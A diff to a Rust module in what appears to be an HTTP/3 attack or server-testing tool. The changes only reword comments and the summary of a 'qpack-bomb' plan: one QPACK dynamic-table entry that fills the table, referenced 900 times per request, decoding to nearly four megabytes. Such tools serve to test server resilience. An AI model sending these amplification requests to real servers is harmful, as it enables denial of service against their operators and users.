@@ -1,4 +1,4 @@
-//! One large table entry, and a thousand references to it.
+//! One large dynamic table entry with many references.
 
 use crate::attack::{Plan, Victim};
 use crate::http::{self, Method};
@@ -9,7 +9,7 @@ use super::{Crowd, crowd};
 pub(super) const PLAN: Plan = Plan {
     name: "qpack-bomb",
     labels: &["A74"],
-    summary: "an entry that fills the dynamic table, referred to a thousand times by each request",
+    summary: "an entry that fills the dynamic table, with 900 references from each request",
     victim: Victim::Server,
     make: || Box::new(qpack_bomb()),
 };
@@ -38,7 +38,7 @@ fn qpack_bomb() -> Crowd {
     })
 }
 
-/// Instructions that set the capacity and insert one entry (RFC 9204 §4.3.1, §4.3.3).
+/// Encodes instructions that set the capacity and insert one entry (RFC 9204 §4.3.1, §4.3.3).
 fn inserts() -> Vec<u8> {
     let mut bytes = Vec::new();
     http::put_prefixed(&mut bytes, 0x20, 5, CAPACITY);
@@ -49,10 +49,10 @@ fn inserts() -> Vec<u8> {
     bytes
 }
 
-/// A section that requires one insert and refers to it in every line.
+/// Encodes a section that requires one insertion and refers to it in every further field line.
 fn bomb() -> Vec<u8> {
     let request = http::section(Method::Get, "/");
-    // Required Insert Count 1 is encoded as 2; the base is 1 (RFC 9204 §4.5.1).
+    // The Required Insert Count 1 is encoded as 2, and the Base is 1 (RFC 9204 §4.5.1).
     let mut section = vec![0x02, 0x00];
     section.extend_from_slice(&request[2..]);
     // Indexed field lines with relative index 0 of the dynamic table.
@@ -69,5 +69,5 @@ const CAPACITY: usize = 4096;
 /// The entry fills the table with a name of one byte and the overhead of 32.
 const VALUE: usize = CAPACITY - 33;
 
-/// References of one request: four megabytes if they were all kept.
+/// References in one request, which would decode to almost four megabytes.
 const REFERENCES: usize = 900;
